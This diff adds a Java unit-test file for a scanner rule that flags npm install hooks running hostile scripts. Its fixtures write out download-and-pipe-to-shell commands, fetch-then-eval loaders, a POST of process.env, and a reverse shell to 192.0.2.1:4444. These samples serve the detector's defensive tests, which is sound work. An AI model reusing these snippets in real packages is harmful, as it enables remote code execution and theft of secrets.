@@ -1,0 +1,145 @@
+package dev.assay.detectors.indicator.autorun;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.assay.detectors.AllDetectors;
+import dev.assay.engine.report.Gap;
+import dev.assay.engine.scan.MemoryConnector;
+import dev.assay.engine.scan.RecordedReport;
+import dev.assay.engine.scan.TestScan;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.util.List;
+import java.util.Set;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class HookFileRuleTest {
+    private static final String BLOB = "Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkLCB0aGlzIGlzIGEgdGVzdCcpOyBjb25zb2xlLmxvZygneCcpOw==";
+
+    private static RecordedReport scan(String... namesAndTexts) {
+        MemoryConnector files = new MemoryConnector();
+        for (int i = 0; i < namesAndTexts.length; i += 2) {
+            files.file(namesAndTexts[i], namesAndTexts[i + 1].getBytes(UTF_8));
+        }
+        return new TestScan(AllDetectors.ALL).only(Set.of("indicator")).run(files);
+    }
+
+    private static List<String> found(RecordedReport report) {
+        return report.findings().stream()
+                .map(each -> each.location() + " " + each.ruleId())
+                .toList();
+    }
+
+    private static String hook(String command) {
+        return "{\"name\": \"p\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"" + command + "\"}}";
+    }
+
+    private static List<String> script(String file, String program) {
+        return found(scan("p/package.json", hook("node " + file), "p/" + file, program));
+    }
+
+    @Test
+    void whatAFileDoesIsDoneByTheHookThatStartsIt() {
+        RecordedReport report = scan(
+                "p/scripts/x.sh",
+                "#!/bin/sh\nset -e\ncurl -s http://192.0.2.1/x | sh\n",
+                "p/package.json",
+                hook("sh ./scripts/x.sh --quiet"));
+        assertThat(found(report)).containsExactly("memory/p/scripts/x.sh:3 indicator/hook-runs-download");
+        assertThat(report.findings().getFirst().evidence().get("command")).startsWith("sh ./scripts/x.sh --quiet: ");
+        assertThat(report.summary().coverage().artifacts()).isEqualTo(2);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "const cp = require('child_process');\ncp.execSync('curl -s http://192.0.2.1/x | sh');\n",
+                "const https = require('https');\nhttps.get('https://a.example/x', r => {\n  let d = '';\n"
+                        + "  r.on('data', c => d += c);\n  r.on('end', () => eval(d));\n});\n",
+                "fetch('https://a.example/x')\n  .then(r => r.text())\n  .then(t => { new Function(t)(); });\n",
+                "const r = await fetch('https://a.example/x');\nconst code = await r.text();\neval(code);\n",
+                "require('https').get('https://a.example/x', r => r.on('data', d => eval(d.toString())));\n",
+            })
+    void whatIsFetchedAndRun(String program) {
+        assertThat(script("install.js", program))
+                .singleElement()
+                .asString()
+                .contains("p/install.js")
+                .endsWith("hook-runs-download");
+    }
+
+    @Test
+    void whatIsDecodedSentOrHandedToAnotherMachine() {
+        assertThat(script("a.js", "const p = Buffer.from('" + BLOB + "', 'base64').toString();\neval(p);\n"))
+                .containsExactly("memory/p/a.js:2 indicator/hook-runs-decoded");
+        assertThat(script(
+                        "a.js",
+                        "const q = require('https').request({host: 'a.example', method: 'POST'});\n"
+                                + "q.end(JSON.stringify(process.env));\n"))
+                .singleElement()
+                .asString()
+                .endsWith("hook-gives-secrets");
+        assertThat(script(
+                        "a.js",
+                        "const s = require('net').connect(4444, '192.0.2.1');\n"
+                                + "const sh = require('child_process').spawn('/bin/sh');\ns.pipe(sh.stdin);\n"))
+                .anyMatch(each -> each.endsWith("hook-opens-shell"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                // what installers of binaries do
+                "const https = require('https');\nconst cp = require('child_process');\n"
+                        + "https.get('https://a.example/x.tgz', r => {\n  const out = fs.createWriteStream('x');\n  r.pipe(out);\n"
+                        + "  out.on('close', () => cp.spawnSync('./x', ['--version'], {env: process.env}));\n});\n",
+                "const m = /v(\\d+)/.exec(await (await fetch('https://a.example/v')).text());\nconsole.log(m);\n",
+                "function load(code) { return eval(code); }\nload('1 + 1');\n\nhttps.get(url, done);\n",
+                "const icon = Buffer.from('" + BLOB + "', 'base64');\nconst re = /a/.exec('a');\nfs.writeFileSync('i', icon);\n",
+                "console.log('to install by hand: curl https://a.example/x.sh | sh');\n",
+                "cp.execSync('node-gyp rebuild', {stdio: 'inherit', env: process.env});\n",
+                "console.log(JSON.stringify(process.env));\n"
+            })
+    void whatInstallersDoIsNone(String program) {
+        assertThat(script("install.js", program)).isEmpty();
+    }
+
+    @Test
+    void onlyWhatAHookStartsIsItsFile() {
+        String bad = "require('child_process').execSync('curl -s http://192.0.2.1/x | sh');\n";
+        assertThat(script("install", "")).isEmpty();
+        assertThat(found(scan("p/package.json", hook("node install"), "p/install.js", bad))).hasSize(1);
+        assertThat(found(scan("p/package.json", hook("node other.js"), "p/install.js", bad))).isEmpty();
+        assertThat(found(scan("p/package.json", hook("node ../../install.js"), "install.js", bad))).isEmpty();
+        assertThat(found(scan("p/package.json", hook("node -e 1 install.js"), "p/install.js", bad))).isEmpty();
+        assertThat(found(scan(
+                        "p/package.json", "{\"scripts\": {\"start\": \"node install.js\"}}", "p/install.js", bad)))
+                .isEmpty();
+        RecordedReport missing = scan("p/package.json", hook("node dist/install.js"));
+        assertThat(missing.gaps()).extracting(Gap::reason).isEmpty();
+    }
+
+    @Test
+    void membersOfAPackageAreReadAgain() throws IOException {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            zip.putNextEntry(new ZipEntry("package/setup_hook.py"));
+            zip.write("import os\nos.system('curl -s http://192.0.2.1/x | sh')\n".getBytes(UTF_8));
+            zip.putNextEntry(new ZipEntry("package/package.json"));
+            zip.write(hook("python3 setup_hook.py").getBytes(UTF_8));
+        }
+        RecordedReport report = new TestScan(AllDetectors.ALL)
+                .only(Set.of("indicator"))
+                .run(new MemoryConnector().file("p.zip", bytes.toByteArray()));
+        assertThat(found(report))
+                .singleElement()
+                .asString()
+                .startsWith("memory/p.zip!package/setup_hook.py")
+                .endsWith("hook-runs-download");
+    }
+}
